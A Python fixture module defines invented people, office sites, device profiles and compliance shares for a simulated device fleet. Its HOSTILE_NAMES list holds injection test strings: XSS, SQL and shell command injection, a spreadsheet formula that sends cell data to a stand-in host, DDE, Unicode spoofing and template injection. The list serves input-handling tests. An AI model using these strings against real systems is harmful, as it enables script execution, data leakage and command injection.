"""Names, sites and device profiles for the generated fleet; all people are invented."""

from typing import NamedTuple

FIRST_NAMES = (
    *("Aisha", "Akira", "Amelie", "Ana", "Andrzej", "Anouk", "Ben", "Björn", "Camille", "Carlos"),
    *("Chiara", "Daan", "Deepa", "Diego", "Elena", "Emeka", "Emma", "Farid", "Fatima", "Felix"),
    *("Giulia", "Grace", "Hanna", "Hiroshi", "Ines", "Ivan", "Jakub", "Jana", "Joao", "Julia"),
    *("Kofi", "Lars", "Leila", "Lena", "Liam", "Lucia", "Magnus", "Maria", "Mateo", "Mei"),
    *("Mohamed", "Nadia", "Nikos", "Noah", "Olga", "Oscar", "Paula", "Priya", "Rafael", "Sanne"),
    *("Sofia", "Stefan", "Tariq", "Thi", "Tomas", "Ursula", "Viktor", "Wei", "Yara", "Zoe"),
)
LAST_NAMES = (
    *("Almeida", "Andersen", "Bauer", "Becker", "Bianchi", "Botha", "Castro", "Chen", "Costa"),
    *("Cruz", "Dubois", "Eriksen", "Fischer", "Garcia", "Haddad", "Hansen", "Horvat", "Ito"),
    *("Jansen", "Kaya", "Keller", "Khan", "Kim", "Kowalski", "Kumar", "Larsen", "Lefevre", "Li"),
    *("Lopez", "Mensah", "Meyer", "Moreau", "Nagy", "Nguyen", "Novak", "Okafor", "Olsen", "Papas"),
    *("Patel", "Petrov", "Popescu", "Reyes", "Ricci", "Rossi", "Sato", "Schmidt", "Silva", "Singh"),
    *(
        "Smit",
        "Svensson",
        "Tanaka",
        "Tran",
        "Vega",
        "Virtanen",
        "Wagner",
        "Wang",
        "Weber",
        "Yilmaz",
    ),
)
DEPARTMENTS = ("ENG", "FIN", "HR", "IT", "LAB", "LEG", "LOG", "MFG", "MKT", "OPS", "SAL", "SUP")


class Site(NamedTuple):
    """An office; its public addresses come from the ranges reserved for documentation."""

    code: str
    city: str
    country: str
    country_code: str
    region: str
    region_code: str
    public_prefix: str


SITES = (
    Site("FRA", "Frankfurt", "Germany", "DE", "Hesse", "HE", "203.0.113."),
    Site("TPA", "Tampa", "United States", "US", "Florida", "FL", "198.51.100."),
    Site("SGN", "Ho Chi Minh City", "Vietnam", "VN", "Ho Chi Minh", "SG", "192.0.2."),
    Site("LDN", "London", "United Kingdom", "GB", "England", "ENG", "203.0.113."),
    Site("TLV", "Tel Aviv", "Israel", "IL", "Tel Aviv", "TA", "198.51.100."),
    Site("TYO", "Tokyo", "Japan", "JP", "Tokyo", "13", "192.0.2."),
    Site("VIE", "Vienna", "Austria", "AT", "Vienna", "9", "203.0.113."),
    Site("SAO", "Sao Paulo", "Brazil", "BR", "Sao Paulo", "SP", "198.51.100."),
)
SITE_BY_CODE = {site.code: site for site in SITES}

# Versions on both sides of each documented minimum; the newest are repeated as weights.
WINDOWS_AGENTS = (
    *("7.6.711.0",) * 10,
    *("7.6.683.0",) * 5,
    *("7.6.602.0", "7.6.455.0") * 2,
    *("7.6.231.0", "7.6.230.9", "7.6.190.0", "7.6.60.0"),
)
MAC_AGENTS = (
    *("10.4.612.0",) * 8,
    *("10.4.540.0",) * 4,
    *("10.4.225.0", "10.4.224.0", "10.4.110.0"),
)
LINUX_AGENTS = ("15.6.88.0", "15.6.88.0", "15.6.41.0", "15.4.22.0")
WINDOWS_CLIENT = (
    ("Windows 11 Pro", "10.0.22631"),
    ("Windows 11 Enterprise", "10.0.26100"),
    ("Windows 11 Enterprise", "10.0.22631"),
    ("Windows 10 Pro", "10.0.19045"),
)
WINDOWS_SERVER = (
    ("Windows Server 2022 Standard", "10.0.20348"),
    ("Windows Server 2019 Datacenter", "10.0.17763"),
)
MACOS = (("macOS Sequoia", "15.5"), ("macOS Sonoma", "14.7.6"), ("macOS Ventura", "13.7.6"))
LINUX_CLIENT = (("Ubuntu", "24.04"), ("Fedora Linux", "42"), ("Ubuntu", "22.04"))
LINUX_SERVER = (("Ubuntu", "22.04"), ("Red Hat Enterprise Linux", "9.4"), ("Debian", "12"))
IOS, IPADOS = (("iOS", "18.5"), ("iOS", "17.7.2")), (("iPadOS", "18.5"),)
ANDROID = (("Android", "15"), ("Android", "14"), ("Android", "13"))


class Profile(NamedTuple):
    """One type of device: its share per thousand, its hardware, systems and agents."""

    share: int
    code: str
    device_type: str
    os_family: str
    systems: tuple[tuple[str, str], ...]
    agent_type: str
    agents: tuple[str, ...]


# The values of agent_type are assumed (U10): the vendor's list is not known.
PROFILES = (
    Profile(370, "LT", "laptop", "windows", WINDOWS_CLIENT, "persistent", WINDOWS_AGENTS),
    Profile(175, "PC", "desktop", "windows", WINDOWS_CLIENT, "persistent", WINDOWS_AGENTS),
    Profile(120, "MB", "laptop", "mac", MACOS, "persistent", MAC_AGENTS),
    Profile(20, "IM", "desktop", "mac", MACOS, "persistent", MAC_AGENTS),
    Profile(30, "LX", "laptop", "linux", LINUX_CLIENT, "persistent", LINUX_AGENTS),
    Profile(70, "SRV", "server", "windows", WINDOWS_SERVER, "persistent", WINDOWS_AGENTS),
    Profile(55, "SRV", "server", "linux", LINUX_SERVER, "persistent", LINUX_AGENTS),
    Profile(30, "VM", "vm", "windows", WINDOWS_SERVER, "persistent", WINDOWS_AGENTS),
    Profile(30, "VM", "vm", "linux", LINUX_SERVER, "persistent", LINUX_AGENTS),
    Profile(30, "iPhone", "phone", "ios", IOS, "mobile", ("3.2.14.0", "3.1.9.0")),
    Profile(8, "iPad", "tablet", "ios", IPADOS, "mobile", ("3.2.14.0",)),
    Profile(22, "Pixel", "phone", "android", ANDROID, "mobile", ("2.9.31.0",)),
    Profile(5, "Tab", "tablet", "android", ANDROID, "mobile", ("2.9.31.0",)),
    Profile(10, "DC", "server", "windows", WINDOWS_SERVER, "domain_controller", ("1.2.31.0",)),
    Profile(20, "EXT", "laptop", "windows", WINDOWS_CLIENT, "on_demand", ("7.3.410.0",)),
    Profile(5, "EXT", "laptop", "mac", MACOS, "on_demand", ("10.3.88.0",)),
)

NAMED_AFTER_PERSON = frozenset({"MB", "IM", "iPhone", "iPad", "Pixel", "Tab"})
MAC_PREFIXES = {
    "LT": "3C:52:82",
    "PC": "00:1B:21",
    "MB": "A4:83:E7",
    "IM": "F0:18:98",
    "LX": "8C:16:45",
    "SRV": "EC:F4:BB",
    "DC": "EC:F4:BB",
    "VM": "00:50:56",
    "EXT": "70:5A:0F",
    "iPhone": "F4:0F:24",
    "iPad": "DC:2B:2A",
    "Pixel": "94:B8:6D",
    "Tab": "5C:51:81",
}

STATUS_SHARES = (
    ("compliant", 620),
    ("non_compliant", 170),
    ("exempted", 50),
    ("unknown", 80),
    ("ignored", 30),
    ("out_of_license_usage", 30),
    ("installed", 10),
    ("pending", 5),
    ("quarantined", 5),
)

# Names that a user or an attacker could give a device; screens and exports must handle each.
HOSTILE_NAMES = (
    "<script>alert('device')</script>",
    '"><img src=x onerror=alert(1)>',
    'O\'Brien "laptop" \\ `id`; DROP TABLE devices;--',
    "invoice\u202efdp.exe",
    "zero\u200bwidth\u200djoiner\ufeff",
    "first line\nsecond line\tand tab",
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "+1-1|cmd /c calc",
    "L" * 255,
    "🧪 lab ☃️ 👩‍🔬",
    "مختبر الأجهزة 7",
    "{{ 7*7 }} {% debug %} ${7*7}",
    "",
)
